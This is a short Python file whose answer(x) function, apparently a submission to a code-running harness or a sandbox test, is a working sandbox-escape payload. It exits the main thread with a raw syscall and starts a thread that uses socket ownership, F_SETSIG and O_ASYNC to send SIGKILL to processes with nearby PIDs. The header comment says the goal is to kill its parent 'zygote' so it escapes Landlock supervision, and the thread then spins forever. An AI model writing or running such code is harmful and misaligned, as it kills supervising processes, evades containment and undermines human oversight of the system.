# Ends its first thread, kills its zygote through fcntl and goes on in another thread: at landlock it would be nobody's child.
import ctypes
import fcntl
import os
import socket
import threading
import time

libc = ctypes.CDLL(None)


def go():
    time.sleep(0.02)
    for owner in range(max(1, os.getpid() - 20), os.getpid()):
        ours, theirs = socket.socketpair()
        try:
            fcntl.fcntl(ours, fcntl.F_SETOWN, owner)
            fcntl.fcntl(ours, 10, 9)
            fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            theirs.send(b"x")
        except OSError:
            pass
    while True:
        pass


def answer(x):
    threading.Thread(target=go).start()
    libc.syscall(60, 0)
